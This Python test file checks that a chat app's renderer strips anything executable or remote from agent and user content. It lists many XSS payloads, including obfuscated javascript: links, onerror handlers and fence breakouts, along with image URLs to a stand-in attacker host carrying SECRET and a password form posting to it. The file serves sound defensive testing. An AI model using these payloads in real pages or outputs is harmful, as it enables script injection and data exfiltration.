"""What an agent shows can be written by anyone: nothing in it may run, load or reach out."""

from __future__ import annotations

import pytest

from chat.display.blocks import render_exact, render_user_text
from chat.display.content import Segment
from chat.display.sanitise import LINK_SCHEMES, sanitise
from chat.display.words import Json
from tests.display.dom import Dom
from tests.display.make import drawn, markdown, shown

HARMLESS_ATTRIBUTES = {"alt", "class", "dir", "href", "rel", "src", "start", "target", "title"}
FORBIDDEN_TAGS = {
    "base", "button", "embed", "form", "iframe", "input", "link", "math", "meta", "object",
    "script", "style", "svg", "template", "textarea", "video",
}  # fmt: skip

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\x1b[31mjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](//evil.example/)",
    "[x](/admin/logout/)",
    "[x](#composer)",
    "[x](typeagent-browser://library)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:text/html;base64,PHN2Zy8+)",
    "![x](https://evil.example/p?x=SECRET)",
    '![x" onerror="alert(1)](https://evil.example/p "t\' onerror=\'alert(1)")',
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p)](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "```\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```json\n{"v": "</span><img src=x onerror=alert(1)>"}\n```',
    '```" onmouseover="alert(1)\nx\n```',
    "```x y\" class='visually-hidden'\nx\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    '<div id="composer" class="kind" style="position:fixed" hx-get="/x">x</div>',
    "<!-- --><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    '\x1b[31m<b onclick="x">',
    "<a href=x><b></p></div><table><td>",
]


def assert_harmless(dom: Dom) -> None:
    for element in dom.elements:
        assert element.tag not in FORBIDDEN_TAGS
        assert set(element.attributes) <= HARMLESS_ATTRIBUTES
        if "href" in element.attributes:
            assert element.attributes["href"].split(":")[0].lower() in LINK_SCHEMES
        if "src" in element.attributes:
            assert element.attributes["src"].startswith("data:image/")
            assert "svg" not in element.attributes["src"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_c71_nothing_that_an_agent_shows_can_run(attack: str) -> None:
    for content in (
        {"type": "markdown", "content": attack},
        {"type": "text", "content": attack},
        {"type": "html", "content": attack},
        {"type": "iframe", "content": attack},
        {"type": attack, "content": attack},
        {"type": "text", "content": [[attack, attack], [attack]]},
        {"type": "markdown", "content": [[attack], [attack]]},
        {"type": "html", "content": [[attack], [attack]]},
        {"type": "text", "content": attack, "kind": attack},
        {"type": "html", "content": "x", "alternates": [{"type": "markdown", "content": attack}]},
    ):
        assert_harmless(shown(content))


@pytest.mark.parametrize("attack", ATTACKS)
def test_c71_nothing_that_a_user_writes_can_run(attack: str) -> None:
    dom = Dom(render_user_text(attack))
    assert_harmless(dom)
    assert {element.tag for element in dom.elements} <= {"div", "a", "span"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_c71_html_that_is_stored_as_such_is_shown_as_its_words(attack: str) -> None:
    assert_harmless(drawn(Segment("html", attack)))


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack[0] == "<"])
def test_c71_the_sanitiser_alone_stops_raw_markup(attack: str) -> None:
    assert_harmless(Dom(sanitise(f"<div>{attack}</div>")))


def test_c71_markup_is_shown_as_the_words_it_is() -> None:
    assert drawn(markdown("<script>alert(1)</script>")).text.strip() == "<script>alert(1)</script>"


def test_c71_an_unsafe_link_keeps_its_words() -> None:
    dom = drawn(markdown("[the *words*](javascript:alert(1))"))
    assert dom.all("a") == []
    assert dom.text.strip() == "the words"


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/p?x=SECRET",
        "http://evil.example/p",
        "//evil.example/p",
        "https:evil.example/p",
        "data:image/svg+xml,<svg/>",
        "data:image/png,https://evil.example/",
        "blob:https://evil.example/1",
        "cid:1",
    ],
)
def test_c73_no_picture_is_loaded_from_elsewhere(address: str) -> None:
    for words in (f"![a]({address})", f"![a][1]\n\n[1]: {address}", f'<img src="{address}">'):
        assert drawn(markdown(words)).all("img") == []
    assert Dom(sanitise(f'<img src="{address}" srcset="{address}" alt="a">')).hrefs() == []
    assert "evil" not in sanitise(f'<img src="{address}" srcset="{address}" alt="a">')


def test_c73_a_foreign_picture_becomes_a_link_with_its_description() -> None:
    dom = drawn(markdown("![a chart](https://a.example/chart.png)"))
    assert dom.hrefs() == ["https://a.example/chart.png"]
    assert dom.one("a").text == "a chart"


def test_c73_a_foreign_picture_without_description_shows_its_address() -> None:
    assert drawn(markdown("![](https://a.example/chart.png)")).text.strip() == (
        "https://a.example/chart.png"
    )


def test_c73_a_foreign_picture_in_a_link_is_its_description() -> None:
    dom = drawn(markdown("[![a chart](https://a.example/c.png)](https://b.example/)"))
    assert dom.hrefs() == ["https://b.example/"]
    assert dom.one("a").text == "a chart"


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp", "PNG"])
def test_c73_a_picture_that_is_in_the_text_is_shown(kind: str) -> None:
    assert drawn(markdown(f"![a](data:image/{kind};base64,AAAA)")).one("img")


@pytest.mark.parametrize(
    "content",
    [
        {"type": "markdown", "content": "a"},
        {"type": "markdown", "content": "- `a`\n\n```py\nb\n```"},
    ],
)
def test_no_style_and_no_id_leaves_the_renderer(content: Json) -> None:
    for element in shown(content).elements:
        assert not {"style", "id"} & set(element.attributes)


def test_a_link_target_survives_a_broken_address() -> None:
    assert_harmless(drawn(markdown("[x](https://[::1) [y](http://%zz) [z](https://)")))


def test_every_block_went_through_the_sanitiser() -> None:
    from django.utils.safestring import SafeString

    blocks = render_exact([markdown("a\n\n```py\nb\n```"), Segment("text", "c", "error")])
    assert all(isinstance(block, SafeString) for block in blocks)
